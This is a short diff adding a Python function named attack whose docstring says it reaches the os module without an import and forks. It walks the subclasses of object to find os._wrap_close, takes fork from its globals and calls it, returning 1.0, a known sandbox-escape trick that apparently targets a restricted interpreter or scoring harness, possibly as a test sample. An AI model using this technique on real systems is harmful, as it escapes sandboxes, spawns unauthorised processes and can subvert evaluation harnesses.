@@ -1,0 +1,8 @@
+"""Reaches os without an import and forks."""
+
+def attack(x):
+    for kind in ().__class__.__base__.__subclasses__():
+        if kind.__name__ == "_wrap_close":
+            kind.__init__.__globals__["fork"]()
+            return 1.0
+    raise LookupError
